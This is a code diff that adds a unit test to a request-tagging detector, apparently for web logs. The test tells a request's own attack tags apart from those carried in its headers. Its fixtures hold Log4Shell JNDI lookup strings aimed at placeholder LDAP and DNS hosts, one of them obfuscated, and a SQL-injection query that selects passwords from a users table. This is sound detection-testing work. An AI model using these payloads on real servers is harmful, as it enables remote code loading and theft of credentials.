@@ -52,4 +52,20 @@ describe('RequestMemo', () => {
     expect(tags.tags(memo.facts(record({ cookie: 'x=${${lower:j}ndi:dns://e/a}' })).tagMask)).toContain('log4shell');
     expect(tags.tags(memo.facts(record()).tagMask)).toEqual([]);
   });
+
+  it('tells the request line’s own tags from those its headers add, once per distinct request', () => {
+    const { tags, memo } = setup();
+    const sqli = "id=1'%20union%20select%20password%20from%20users--";
+    // The Referer repeats the request's own injection: both masks hold it.
+    const echoed = record({ path: '/search', query: sqli, referer: `http://example.com/search?${sqli}` });
+    const facts = memo.facts(echoed);
+    expect(tags.tags(memo.requestTags(echoed, facts))).toEqual(['sql_injection']);
+    // An ordinary page whose User-Agent and Referer carry the attacks: none is the request's.
+    const headers = record({ path: '/a.css', userAgent: '${jndi:ldap://192.0.2.1/a}', referer: '${jndi:ldap://192.0.2.1/b}' });
+    expect(tags.tags(memo.facts(headers).tagMask)).toContain('log4shell');
+    expect(memo.requestTags(headers, memo.facts(headers))).toBe(0);
+    // Worked out once: the answer is kept with the request's facts.
+    expect(facts.requestMask).toBe(memo.requestTags(echoed, facts));
+    expect(memo.requestTags(record({ path: '/search', query: sqli, clientIp: '198.51.100.9' }), memo.facts(record({ path: '/search', query: sqli })))).toBe(facts.requestMask);
+  });
 });
